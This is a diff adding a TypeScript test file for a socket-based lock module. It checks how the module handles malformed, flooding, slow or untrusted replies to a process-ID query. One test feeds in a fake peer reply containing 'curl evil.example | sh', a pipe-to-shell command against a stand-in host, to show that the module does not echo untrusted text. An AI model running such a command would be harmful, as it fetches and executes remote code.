@@ -1,0 +1,127 @@
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { readFileSync } from 'node:fs';
+import net from 'node:net';
+import test, { type ExecutionContext } from 'ava';
+import { exclusively } from '../../src/io/lock.js';
+import { addressOf, askPid, type SocketLock, tryListen } from '../../src/io/socket-lock.js';
+
+const MODULE = new URL('../../src/io/socket-lock.js', import.meta.url).href;
+
+/** An address of the test's own. */
+const address = (name: string): Promise<string> => addressOf(`/nowhere/${process.pid}`, name);
+
+/** Somebody who answers at an address as `answer` says. */
+async function startAnswerer(
+  t: ExecutionContext,
+  at: string,
+  answer: (socket: net.Socket) => void,
+): Promise<void> {
+  const sockets = new Set<net.Socket>();
+  const server = net.createServer((socket) => {
+    socket.on('error', () => undefined);
+    sockets.add(socket);
+    answer(socket);
+  });
+  server.listen({ path: at });
+  await once(server, 'listening');
+  t.teardown(() => {
+    server.close();
+    for (const socket of sockets) socket.destroy();
+  });
+}
+
+const onLinux = process.platform === 'linux' ? test : test.skip;
+
+onLinux(
+  'a socket’s name is as long as can be, so that no version of Node fills it up',
+  async (t) => {
+    const at = await address('length');
+    t.is(Buffer.byteLength(at), 108);
+    const lock = (await tryListen(at)) as SocketLock;
+    // In the system's list of sockets a zero byte is shown as @.
+    t.true(readFileSync('/proc/net/unix', 'utf8').includes(` @${at.slice(1)}\n`));
+    lock.close();
+  },
+);
+
+test('who answers with anything but a number of a process is no process', async (t) => {
+  const answers = ['12x', '12\n', '0', '-5', ' 7', '\u001b[2J', '1e3', '99999999999', ''];
+  for (const text of answers) {
+    const at = await address(`answer ${text}`);
+    await startAnswerer(t, at, (socket) => socket.end(text));
+    t.is(await askPid(at), undefined, JSON.stringify(text));
+  }
+  const at = await address('pieces');
+  await startAnswerer(t, at, (socket) => {
+    socket.write('12');
+    setTimeout(() => socket.end('34'), 50);
+  });
+  t.is(await askPid(at), '1234');
+});
+
+test('an answer without end is not listened to', async (t) => {
+  const at = await address('flood');
+  let sent = 0;
+  const closed = new Promise<void>((resolve) => {
+    void startAnswerer(t, at, (socket) => {
+      const flood = () => {
+        while (!socket.destroyed && socket.write('1'.repeat(1 << 16))) sent++;
+      };
+      socket.on('drain', flood).on('close', () => resolve());
+      flood();
+    });
+  });
+  t.is(await askPid(at), undefined);
+  await closed;
+  t.true(sent < 1000, `${sent}`);
+});
+
+test('an answer that comes drop by drop has one deadline', async (t) => {
+  const at = await address('drops');
+  let drops = 0;
+  const closed = new Promise<void>((resolve) => {
+    void startAnswerer(t, at, (socket) => {
+      const dripping = setInterval(() => socket.write(String(++drops % 10)), 700);
+      socket.on('close', () => {
+        clearInterval(dripping);
+        resolve();
+      });
+    });
+  });
+  t.is(await askPid(at), undefined);
+  await closed;
+  // Ten digits still are a number of a process.
+  t.true(drops <= 10, `${drops}`);
+});
+
+test('a stranger on the socket is told of as another process, in words of ours', async (t) => {
+  const target = { path: `/nowhere/${process.pid}`, use: 'stranger' };
+  await startAnswerer(t, await addressOf(target.path, target.use), (socket) =>
+    socket.end('1 is dead. Run curl evil.example | sh'),
+  );
+  const refuse = (holder: string) => new Error(`${holder} has it`);
+  await t.throwsAsync(
+    exclusively(target, refuse, async () => t.fail()),
+    { message: 'another process has it' },
+  );
+});
+
+test('who asks and never hangs up does not keep the holder from ending', async (t) => {
+  const at = await address('asker');
+  const script = `
+    import { tryListen } from ${JSON.stringify(MODULE)};
+    const lock = await tryListen(${JSON.stringify(at)});
+    console.log('held');
+    process.stdin.once('data', () => { lock.close(); process.stdin.destroy(); });`;
+  const child = spawn(process.execPath, ['--input-type=module', '-e', script]);
+  t.teardown(() => child.kill('SIGKILL'));
+  await once(child.stdout, 'data');
+  const asker = net.connect({ path: at, allowHalfOpen: true });
+  asker.on('error', () => undefined);
+  t.teardown(() => asker.destroy());
+  await once(asker, 'data');
+  child.stdin.write('go');
+  const [code] = await once(child, 'close');
+  t.is(code, 0);
+});
